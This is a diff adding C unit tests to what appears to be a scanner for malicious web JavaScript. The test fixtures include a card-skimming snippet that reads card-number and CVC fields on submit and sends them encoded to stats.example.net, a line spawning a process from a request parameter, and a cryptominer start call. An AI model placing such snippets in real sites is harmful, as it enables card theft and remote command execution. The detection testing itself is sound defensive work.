@@ -157,6 +157,67 @@ TEST(what_a_visitor_sends)
     CHECK(!facts_has(&facts, F_WEB_RUNS_REQUEST));
 }
 
+/* The pieces, with so many bytes of other code between them. */
+static void look_apart(const char *const *pieces, size_t filler)
+{
+    _cleanup_(strbuf_done) struct strbuf b = {};
+    for (; *pieces; pieces++) {
+        strbuf_adds(&b, *pieces);
+        for (size_t to = b.n + filler; b.n < to;)
+            strbuf_adds(&b, "a.b(c);\n");
+    }
+    look("/srv/www/shop/bundle.js", strbuf_str(&b).p);
+}
+
+TEST(what_is_done_near_names_of_cards)
+{
+    static const char *const PIECES[] = {"document.addEventListener('submit', function () { d = document.forms[0]['cc_number'].value; c = d.cc_cid;\n",
+                                         "new Image().src = 'https://stats.example.net/?d=' + btoa(JSON.stringify(d)); });\n", NULL};
+    look_apart(PIECES, 0);
+    CHECK(lists(F_WEB_NEAR_CARDS, "card-fields") && lists(F_WEB_NEAR_CARDS, "sends-image") && lists(F_WEB_NEAR_CARDS, "encodes"));
+    look_apart(PIECES, 7 << 10);
+    CHECK(lists(F_WEB_NEAR_CARDS, "sends-image"));
+    look_apart(PIECES, 24 << 10);
+    CHECK(does("card-fields") && does("sends-image"));
+    CHECK(lists(F_WEB_NEAR_CARDS, "card-fields") && !lists(F_WEB_NEAR_CARDS, "sends-image") && !lists(F_WEB_NEAR_CARDS, "encodes"));
+}
+
+TEST(what_stands_around_several_names_of_cards_does_not_add_up)
+{
+    static const char *const PIECES[] = {"x = ['cc_number', 'cc_cid'];\n", "new Image().src = 'https://stats.example.net/';\n", "x = 'cc_number';\n",
+                                         "y = btoa('a'); z = 'cc_cid'; document.addEventListener('submit', f);\n", NULL};
+    look_apart(PIECES, 12 << 10);
+    CHECK(does("sends-image") && does("encodes"));
+    CHECK(lists(F_WEB_NEAR_CARDS, "encodes") != lists(F_WEB_NEAR_CARDS, "sends-image"));
+}
+
+TEST(fields_that_a_recorder_leaves_out_are_no_cards)
+{
+    look("/srv/www/a.js", "if(['current-password','new-password','cc-number','cc-exp','cc-csc'].includes(e.getAttribute('autocomplete')))return;");
+    CHECK(!does("card-fields"));
+    look("/srv/www/a.js", "if(['cc-number','cc-exp','cc-csc'].includes(e.getAttribute('autocomplete')))take(e);");
+    CHECK(does("card-fields"));
+}
+
+TEST(a_variable_of_a_bundle_stands_for_what_it_was_given_near_there)
+{
+    static const char *const PIECES[] = {"const cp=require('child_process');\n", "const e=req.query.x;\n", "cp.spawn(e);\n", NULL};
+    look_apart(PIECES, 1 << 10);
+    CHECK(lists(F_WEB_RUNS_REQUEST, "spawn"));
+    look_apart(PIECES, 9 << 10);
+    CHECK(!facts_has(&facts, F_WEB_RUNS_REQUEST));
+}
+
+TEST(keys_of_miners_are_no_marks)
+{
+    look("/srv/www/a.js", "return new tree.Anonymous(',', i), new(tree.Anonymous)(' ', i), new tree.Anonymous('', i);");
+    CHECK(!facts_has(&facts, F_WEB_MINERS));
+    look("/srv/www/a.js", "out.push(new x.Token('definition_list_open', 'dl', 1)); w.start();");
+    CHECK(!facts_has(&facts, F_WEB_MINERS));
+    look("/srv/www/a.js", "new Quiet.Anonymous('SITE-KEY').start();");
+    CHECK(lists(F_WEB_MINERS, "Quiet.Anonymous"));
+}
+
 TEST(deep_and_broken_code_ends)
 {
     _cleanup_(strbuf_done) struct strbuf b = {};
